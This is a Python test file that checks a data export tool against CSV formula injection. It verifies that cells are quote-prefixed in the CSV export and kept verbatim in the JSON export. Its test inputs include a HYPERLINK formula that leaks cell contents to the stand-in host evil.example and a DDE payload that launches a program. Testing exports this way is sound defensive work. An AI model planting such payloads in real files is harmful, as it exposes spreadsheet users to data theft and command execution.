"""CSV injection (OWASP; issue 11, item 7): a write token can store a formula as a name; the CSV export
must not hand it to a spreadsheet as one, and the round trip through the CSV stays lossless."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

from tests.conftest import Api
from tests.databases import DatabaseFactory
from tests.sources import SOURCES
from tests.test_mutations import CREATE_INITIATIVE

ROOT = Path(__file__).parent.parent
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+31 (0)76 1234567",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",
]


def _run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "app", *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
        env={**os.environ, "COLUMNS": "400", "NO_COLOR": "1"},
    )


async def test_formulas_are_neutralised_in_csv_and_kept_in_json(
    writer: Api, fresh_url: str, backend: str, databases: DatabaseFactory, tmp_path: Path
) -> None:
    for number, formula in enumerate(FORMULAS):
        new = {
            "slug": f"formule-{number}",
            "name": formula,
            "kind": "PILOT",
            "summary": formula,
            "sources": SOURCES,
        }
        payload = (await writer.data(CREATE_INITIATIVE, {"input": new}))["createInitiative"]
        assert payload["errors"] == [], payload
        assert payload["initiative"]["name"] == formula

    exported = _run(
        "export", "--format", "csv", "--output", str(tmp_path / "csv"), "--database-url", fresh_url
    )
    assert exported.returncode == 0, exported.stderr
    with (tmp_path / "csv" / "initiatives.csv").open(encoding="utf-8", newline="") as file:
        rows = {row["slug"]: row for row in csv.DictReader(file)}
    for number, formula in enumerate(FORMULAS):
        for column in ("name", "summary"):
            cell = rows[f"formule-{number}"][column]
            assert cell[0] not in "=+-@\t\r", f"{cell!r} would run as a formula"
            assert cell == "'" + formula
    assert rows["pilot-altena"]["name"] == "Pilot Altena", "ordinary cells are untouched"

    as_json = _run("export", "--database-url", fresh_url)
    assert as_json.returncode == 0, as_json.stderr
    names = {i["slug"]: i["name"] for i in json.loads(as_json.stdout)["initiatives"]}
    assert [names[f"formule-{n}"] for n in range(len(FORMULAS))] == FORMULAS, "JSON keeps them verbatim"

    # Importing the CSV export restores every value: the round trip is lossless.
    target = await databases.create(backend)
    assert (
        _run("db", "upgrade", "--database-url", target).returncode == 0
    )  # import wants an existing database
    imported = _run("import", str(tmp_path / "csv"), "--database-url", target)
    assert imported.returncode == 0, imported.stderr
    again = _run("export", "--database-url", target)
    assert json.loads(again.stdout)["initiatives"] == json.loads(as_json.stdout)["initiatives"]


def test_neutralising_is_undone_exactly() -> None:
    """Tab and carriage return too (the API trims names, so they come only from an import), and values
    that begin with quotes: reading takes off exactly the one quote writing put on."""
    from app.services.transfer import neutralised, restored

    for value in [*FORMULAS, "\t=1+1", "\r=1+1", "''=x", "'s-Hertogenbosch", "'", "", "a=b", "10-12"]:
        assert restored(neutralised(value)) == value
    assert neutralised("'s-Hertogenbosch") == "'s-Hertogenbosch", "a leading quote alone is left alone"
    assert neutralised("\t=1") == "'\t=1"
    assert restored("'hello") == "'hello", "a quote a person typed stays"
